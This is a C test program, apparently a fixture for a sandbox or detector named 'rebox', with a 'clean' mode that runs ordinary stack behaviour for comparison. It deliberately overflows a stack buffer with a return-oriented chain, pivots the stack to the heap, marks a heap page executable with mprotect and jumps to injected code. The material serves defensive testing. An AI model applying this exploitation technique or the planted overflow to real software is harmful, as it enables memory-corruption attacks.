/*
 * Overflows a buffer on its stack with what it reads, which is a chain of returns: it calls a function, moves the stack to the heap,
 * makes a page of the heap executable and goes there. "overflow clean" reads less, and does what ordinary programs do: recursion,
 * longjmp(), signals, large frames.
 */
#define _GNU_SOURCE
#include <stdio.h>
#ifdef __x86_64__
#include <setjmp.h>
#include <signal.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#define PLAIN __attribute__((noinline, noclone))
#define GADGET(name, code) \
    __asm__(".globl " #name "\n.type " #name ", @function\n" #name ":\n" code "\nret\n.size " #name ", . - " #name \
            "\n"); \
    extern char name[]

GADGET(gadget_pop_rdi, "pop %rdi");
GADGET(gadget_pop_rsi, "pop %rsi");
GADGET(gadget_pop_rdx, "pop %rdx");
GADGET(gadget_pivot, "mov %rdi, %rsp");

static int fields[2];
static jmp_buf place;
static volatile int sum;

PLAIN __attribute__((force_align_arg_pointer)) void called(long value)
{
    printf("rebox-guest: overflow.called=%ld\n", value);
    fflush(stdout);
}

PLAIN __attribute__((force_align_arg_pointer)) void finish(void)
{
    printf("rebox-guest: overflow.finished=1\n");
    fflush(stdout);
    _exit(0);
}

PLAIN __attribute__((no_stack_protector)) int vulnerable(void)
{
    char buffer[64];
    /* The compiler would see what is wrong. */
    volatile size_t most = 4096;
    int size = read(fields[0], buffer, most);

    __asm__ volatile("" : : "r"(buffer) : "memory");
    return size;
}

/* The distance from the buffer to the return address is found by trying: all words in between are the address of a plain return. */
static size_t fill(uint64_t *words, uint64_t *stack, void *code)
{
    size_t count = 0;

    /* "ret" alone is behind each gadget. */
    while (count < 16) {
        words[count++] = (uintptr_t)gadget_pivot + 3;
    }
    words[count++] = (uintptr_t)gadget_pop_rdi;
    words[count++] = 1234;
    words[count++] = (uintptr_t)called;
    words[count++] = (uintptr_t)gadget_pop_rdi;
    words[count++] = (uintptr_t)stack;
    words[count++] = (uintptr_t)gadget_pivot;
    *stack++ = (uintptr_t)gadget_pop_rdi;
    *stack++ = (uintptr_t)code;
    *stack++ = (uintptr_t)gadget_pop_rsi;
    *stack++ = 4096;
    *stack++ = (uintptr_t)gadget_pop_rdx;
    *stack++ = PROT_READ | PROT_WRITE | PROT_EXEC;
    *stack++ = (uintptr_t)mprotect;
    *stack++ = (uintptr_t)code;
    return count * sizeof(*words);
}

PLAIN static int recurse(int depth)
{
    return depth == 0 ? 0 : 1 + recurse(depth - 1);
}

static void on_signal(int number)
{
    sum += number;
}

PLAIN static void jump(int depth)
{
    if (depth == 0) {
        longjmp(place, 1);
    }
    if (sum >= 0) {
        jump(depth - 1);
    }
    sum++;
}

PLAIN static void large(void)
{
    char frame[300000];

    memset(frame, 1, sizeof(frame));
    __asm__ volatile("" : : "r"(frame) : "memory");
}

static void behave(void)
{
    sum = recurse(200);
    signal(SIGUSR1, on_signal);
    raise(SIGUSR1);
    if (setjmp(place) == 0) {
        jump(20);
    }
    large();
}

int main(int count, char **words)
{
    int is_clean = count > 1 && strcmp(words[1], "clean") == 0;
    static uint64_t chain[64];
    char *heap = aligned_alloc(4096, 1 << 18), *code = heap + (1 << 16);
    uint64_t *stack = (uint64_t *)(heap + (1 << 17));
    /* mov $finish, %rax; jmp *%rax */
    uint8_t bytes[12] = { 0x48, 0xb8, [10] = 0xff, 0xe0 };
    uintptr_t to = (uintptr_t)finish;
    size_t size = fill(chain, stack, code);

    memcpy(bytes + 2, &to, sizeof(to));
    memcpy(code, bytes, sizeof(bytes));
    printf("rebox-guest: overflow.pid=%d\n", getpid());
    printf("rebox-guest: overflow.code=%p\n", (void *)code);
    printf("rebox-guest: overflow.stack=%p\n", (void *)stack);
    fflush(stdout);
    if (pipe(fields) != 0 || write(fields[1], chain, is_clean ? 32 : size) < 0) {
        return 1;
    }
    if (is_clean) {
        behave();
    }
    vulnerable();
    printf("rebox-guest: overflow.returned=1\n");
    return 0;
}

#else

int main(void)
{
    printf("rebox-guest: overflow.finished=0\n");
    return 0;
}

#endif
